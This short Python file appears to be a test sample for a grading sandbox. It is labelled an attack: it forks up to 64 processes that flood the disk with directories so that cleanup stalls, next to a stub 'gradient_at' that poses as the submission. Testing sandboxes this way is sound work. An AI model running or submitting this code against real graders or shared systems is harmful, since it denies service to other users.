# attack: leave so many files behind that tidying up holds everybody up
# verdict: failed, timeout, error
import os
import time

end = time.monotonic() + 1.5
for _ in range(6):
    if os.fork() == 0:
        break
folder = f"d{os.getpid()}"
os.mkdir(folder)
number = 0
while time.monotonic() < end:
    number += 1
    try:
        os.mkdir(f"{folder}/{number}")
    except OSError:
        break


def gradient_at(x, y):
    return None
